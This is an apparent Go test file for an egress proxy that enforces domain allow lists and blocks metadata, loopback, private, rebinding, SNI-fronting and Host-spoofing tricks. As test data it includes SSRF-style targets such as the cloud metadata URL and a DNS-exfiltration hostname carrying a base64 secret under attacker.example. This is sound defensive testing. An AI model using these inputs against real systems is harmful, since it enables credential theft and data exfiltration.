package egress_test

import (
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"

	"github.com/trueforge/terraform-provider-trueforge/internal/egress"
)

func TestAllowedHostThroughOpaqueTunnel(t *testing.T) {
	f := newFixture(t, egress.Policy{AllowDomains: []string{"api.allowed.test", "*.wild.test"}}, nil)
	c := f.client(t)
	for _, host := range []string{"api.allowed.test", "x.wild.test"} {
		resp, b := f.get(t, c, host, "/whoami", nil)
		if resp.StatusCode != 200 || !strings.Contains(b, "hello from upstream") {
			t.Fatalf("%s: %d %q", host, resp.StatusCode, b)
		}
		// Opaque: the client saw the upstream's own certificate, not one of the sandbox CA.
		if got := resp.TLS.PeerCertificates[0].Issuer.CommonName; got != "upstream test CA" {
			t.Errorf("%s: certificate issued by %q; an opaque tunnel must not be terminated", host, got)
		}
		if !f.log.has(host, "") {
			t.Errorf("%s: no allow decision logged: %+v", host, f.log.all())
		}
	}
}

func TestPolicyRefusals(t *testing.T) {
	allow := egress.Policy{AllowDomains: []string{"api.allowed.test", "meta.allowed.test", "private.allowed.test", "rebind.allowed.test", "ula.allowed.test", "*.wild.test"}}
	cases := []struct {
		name   string
		pol    egress.Policy
		target string // host, port appended unless it has one
		reason string
	}{
		{"host not on the allow list", allow, "evil.test", egress.ReasonNotAllowed},
		{"wildcard does not match its apex", allow, "wild.test", egress.ReasonNotAllowed},
		{"suffix trick", allow, "evilapi.allowed.test", egress.ReasonNotAllowed},
		{"raw IPv4 under an allow list", allow, "127.0.0.1", egress.ReasonIPLiteral},
		{"IPv6 literal under an allow list", allow, "[::1]", egress.ReasonIPLiteral},
		{"metadata IP under an allow list", allow, "169.254.169.254", egress.ReasonIPLiteral},
		{"allowed name resolving to metadata", allow, "meta.allowed.test", egress.ReasonForbiddenAddress},
		{"allowed name resolving to a private address", allow, "private.allowed.test", egress.ReasonForbiddenAddress},
		{"DNS rebinding: one private address among public", allow, "rebind.allowed.test", egress.ReasonForbiddenAddress},
		{"allowed name resolving to the IPv6 metadata service", allow, "ula.allowed.test", egress.ReasonForbiddenAddress},
		{"block_all wins over the allow list", egress.Policy{BlockAll: true, AllowDomains: []string{"api.allowed.test"}}, "api.allowed.test", egress.ReasonBlockAll},
		// Unrestricted egress still goes nowhere near the host or cloud metadata.
		{"unrestricted: metadata IP", egress.Policy{}, "169.254.169.254", egress.ReasonForbiddenAddress},
		{"unrestricted: IPv6 metadata", egress.Policy{}, "[fd00:ec2::254]", egress.ReasonForbiddenAddress},
		{"unrestricted: loopback", egress.Policy{}, "127.0.0.2", egress.ReasonForbiddenAddress},
		{"unrestricted: IPv6 loopback", egress.Policy{}, "[::1]", egress.ReasonForbiddenAddress},
		{"unrestricted: IPv4-mapped loopback", egress.Policy{}, "[::ffff:127.0.0.2]", egress.ReasonForbiddenAddress},
		{"unrestricted: private", egress.Policy{}, "10.0.0.1", egress.ReasonForbiddenAddress},
		{"unrestricted: CGNAT", egress.Policy{}, "100.64.1.1", egress.ReasonForbiddenAddress},
		{"unrestricted: link-local IPv6", egress.Policy{}, "[fe80::1]", egress.ReasonForbiddenAddress},
		{"unrestricted: name resolving to the harness", egress.Policy{}, "harness.test", egress.ReasonForbiddenAddress},
		{"unrestricted: name resolving to metadata", egress.Policy{}, "meta.allowed.test", egress.ReasonForbiddenAddress},
		{"bad host", egress.Policy{}, "a..b", egress.ReasonBadTarget},
		{"bad port", egress.Policy{}, "api.allowed.test:99999", egress.ReasonBadTarget},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, tc.pol, nil)
			target := tc.target
			if _, _, err := net.SplitHostPort(target); err != nil {
				target = net.JoinHostPort(strings.Trim(target, "[]"), f.up.port)
			}
			resp, _, _ := f.connect(t, target)
			if got := denyReason(t, resp); got != tc.reason {
				t.Fatalf("CONNECT %s: reason %q, want %q", target, got, tc.reason)
			}
			if n := len(f.up.requests()); n != 0 {
				t.Fatalf("upstream got %d requests", n)
			}
			ds := f.log.all()
			if len(ds) != 1 || ds[0].Allowed || ds[0].Reason != tc.reason {
				t.Fatalf("decision log %+v, want one refusal %q", ds, tc.reason)
			}
		})
	}
}

// Names refused by the policy are never resolved: the proxy cannot be used to carry
// data out in DNS queries.
func TestRefusedNamesAreNeverResolved(t *testing.T) {
	f := newFixture(t, egress.Policy{AllowDomains: []string{"api.allowed.test"}}, nil)
	name := "c2VjcmV0LXZhbHVl.attacker.example"
	resp, _, _ := f.connect(t, name+":443")
	if got := denyReason(t, resp); got != egress.ReasonNotAllowed {
		t.Fatalf("reason %q", got)
	}
	resp, err := f.client(t).Get("http://" + name + "/x")
	if err != nil {
		t.Fatal(err)
	}
	if got := denyReason(t, resp); got != egress.ReasonNotAllowed {
		t.Fatalf("plain reason %q", got)
	}
	if n := f.resolver.total(); n != 0 {
		t.Fatalf("the upstream resolver was asked %d times; refused names must not be resolved", n)
	}
}

func TestPlainHTTP(t *testing.T) {
	f := newFixture(t, egress.Policy{AllowDomains: []string{"api.allowed.test"}}, nil)
	c := f.client(t)
	resp, err := c.Get("http://" + net.JoinHostPort("api.allowed.test", f.plainUp.port) + "/whoami")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || !strings.Contains(string(b), "host=api.allowed.test:") {
		t.Fatalf("%d %q", resp.StatusCode, b)
	}
	for _, target := range []string{"http://evil.test:" + f.plainUp.port + "/", "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:" + f.plainUp.port + "/whoami"} {
		resp, err := c.Get(target)
		if err != nil {
			t.Fatal(err)
		}
		if r := denyReason(t, resp); r != egress.ReasonNotAllowed && r != egress.ReasonIPLiteral {
			t.Fatalf("%s: reason %q", target, r)
		}
	}
	if n := len(f.plainUp.requests()); n != 1 {
		t.Fatalf("upstream got %d requests, want 1", n)
	}
	// A spoofed Host header does not pick the destination: the URL does.
	req, _ := http.NewRequest("GET", "http://"+net.JoinHostPort("api.allowed.test", f.plainUp.port)+"/whoami", nil)
	req.Host = "evil.test"
	resp, err = c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	reqs := f.plainUp.requests()
	if got := reqs[len(reqs)-1].Host; !strings.HasPrefix(got, "api.allowed.test:") {
		t.Fatalf("upstream saw Host %q; the proxy must send the URL's host", got)
	}
}

// An opaque tunnel's TLS server name must be the CONNECT host: a client cannot open a
// tunnel to an allowed host and then talk to another name behind the same address
// (domain fronting at the SNI layer).
func TestSNIMustMatchConnectHost(t *testing.T) {
	f := newFixture(t, egress.Policy{AllowDomains: []string{"api.allowed.test"}}, nil)
	for _, sni := range []string{"evil.test", ""} {
		resp, c, _ := f.connect(t, "api.allowed.test:"+f.up.port)
		if resp.StatusCode != 200 {
			t.Fatalf("CONNECT: %d", resp.StatusCode)
		}
		cfg := &tls.Config{RootCAs: f.ca.Pool, ServerName: sni, InsecureSkipVerify: sni == ""}
		tc := tls.Client(c, cfg)
		err := tc.Handshake()
		if err == nil {
			t.Fatalf("SNI %q: handshake succeeded through a tunnel to api.allowed.test", sni)
		}
		want := egress.ReasonSNIMismatch
		if sni == "" {
			want = egress.ReasonNoSNI
		}
		if !f.log.has("api.allowed.test", want) {
			t.Fatalf("SNI %q: no %s decision: %+v (client error %v)", sni, want, f.log.all(), err)
		}
	}
	if n := len(f.up.requests()); n != 0 {
		t.Fatalf("upstream got %d requests", n)
	}
}

// Plain HTTP inside a CONNECT tunnel must name the tunnel's host.
func TestHostHeaderInTunnelMustMatch(t *testing.T) {
	f := newFixture(t, egress.Policy{AllowDomains: []string{"api.allowed.test"}}, nil)
	resp, c, br := f.connect(t, "api.allowed.test:"+f.plainUp.port)
	if resp.StatusCode != 200 {
		t.Fatalf("CONNECT: %d", resp.StatusCode)
	}
	fmt.Fprintf(c, "GET /whoami HTTP/1.1\r\nHost: evil.test\r\n\r\n")
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatal(err)
	}
	if got := denyReason(t, resp); got != egress.ReasonHostMismatch {
		t.Fatalf("reason %q", got)
	}
	if n := len(f.plainUp.requests()); n != 0 {
		t.Fatalf("upstream got %d requests", n)
	}
}
